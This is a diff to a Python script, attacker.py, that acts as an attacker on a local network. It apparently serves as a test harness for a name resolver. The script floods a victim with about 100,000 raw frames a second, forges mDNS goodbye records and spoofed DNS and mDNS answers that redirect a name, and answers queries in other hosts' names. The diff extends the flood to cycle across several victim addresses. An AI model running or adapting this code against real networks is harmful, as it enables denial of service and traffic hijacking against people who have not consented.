@@ -1,6 +1,6 @@
 """An attacker on a LAN: run on a host of it. Every attack has an end of its own.
 
-    attacker.py flood SECONDS KIND VICTIM HARDWARE    100,000 frames a second at the victim, whose addresses
+    attacker.py flood SECONDS KIND HARDWARE VICTIM... 100,000 frames a second at the victim, whose addresses
                                                       these are; KIND is a function of FLOODS
     attacker.py first SECONDS SPARED...               is the first to answer whatever is asked, in the name
                                                       of whoever was asked, but for these addresses
@@ -15,7 +15,9 @@
 import ctypes
 import fcntl
 import ipaddress
+import itertools
 import select
+import signal
 import socket
 import struct
 import sys
@@ -112,7 +114,7 @@ def goodbye(version, number, victim, hardware):
     group, to = GROUPS[version]
     gone = NAME + struct.pack("!HHIH", 1, 0x8001, 0, 4) + bytes([10, 77, 0, number & 255])
     question = struct.pack("!6H", 0, 0x0200, 1, 0, 0, 0) + NAME + b"\0\1\0\1"
-    body = question if number % 2 else answer(gone, flags=0x8600)
+    body = question if number & 2 else answer(gone, flags=0x8600)
     body = packet(stranger(version, number), group, UDP, udp(MDNS_PORT, MDNS_PORT, body))
     return frame(hardware_of(to), {4: IPV4, 6: IPV6}[version], body)
 
@@ -135,7 +137,7 @@ def ports(version, number, victim, hardware):
     """Answers to whatever port we may have asked from, as DNS servers and responders give them."""
     sender = "10.77.0.1" if version == 4 else stranger(version, number)
     lie = answer(record(NAME, "10.66.0.1"), identifier=number * 64 & 0xFFFF)
-    body = udp((53, MDNS_PORT)[number % 2], 32768 + number * 27 % 28232, lie)
+    body = udp((53, MDNS_PORT)[number >> 1 & 1], 32768 + number * 27 % 28232, lie)
     return frame(hardware, {4: IPV4, 6: IPV6}[version], packet(sender, victim, UDP, body))
 
 
@@ -162,19 +164,21 @@ def packet_socket(protocol=0):
     return s
 
 
-def flood(seconds, kind, victim, hardware):
-    """Sends them at a steady rate, or as fast as the machine can."""
-    make, version = FLOODS[kind], ipaddress.ip_address(victim).version
-    frames = [make(version, number, victim, hardware_of(hardware)) for number in range(VARIANTS)]
+def flood(seconds, kind, hardware, *victims):
+    """Sends them at a steady rate, or as fast as the machine can, to each of the victim's addresses in turn."""
+    make, turns = FLOODS[kind], itertools.cycle(victims)
+    frames = [make(ipaddress.ip_address(victim).version, number, victim, hardware_of(hardware))
+              for number, victim in zip(range(VARIANTS), turns)]
     messages = (Message * VARIANTS)()
     vectors = (Vector * VARIANTS)(*((each, len(each)) for each in frames))
     for number in range(VARIANTS):
         messages[number].vectors = ctypes.pointer(vectors[number])
         messages[number].vectors_length = 1
-    sender, libc = packet_socket(), ctypes.CDLL(None)
+    sender, libc, stopped = packet_socket(), ctypes.CDLL(None), []
+    signal.signal(signal.SIGTERM, lambda *_: stopped.append(True))
     print("ready", flush=True)
     started, sent = time.monotonic(), 0
-    while (elapsed := time.monotonic() - started) < float(seconds):
+    while (elapsed := time.monotonic() - started) < float(seconds) and not stopped:
         if RATE * elapsed < sent:
             time.sleep(0.0005)
             continue
